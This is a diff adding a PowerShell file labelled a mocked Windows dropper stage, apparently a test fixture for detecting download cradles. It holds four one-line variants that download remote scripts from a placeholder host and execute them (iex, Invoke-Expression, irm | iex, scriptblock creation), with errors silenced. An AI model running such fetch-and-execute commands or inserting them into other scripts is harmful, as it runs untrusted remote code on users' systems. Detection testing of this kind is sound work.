@@ -0,0 +1,6 @@
+# Mocked Windows dropper stage
+$ErrorActionPreference = "SilentlyContinue"
+iex ((New-Object System.Net.WebClient).DownloadString("https://example.invalid/stage2.ps1"))
+Invoke-WebRequest -UseBasicParsing "https://example.invalid/env.ps1" | Invoke-Expression
+irm https://example.invalid/loader | iex
+& ([scriptblock]::Create((iwr "https://example.invalid/run.ps1").Content))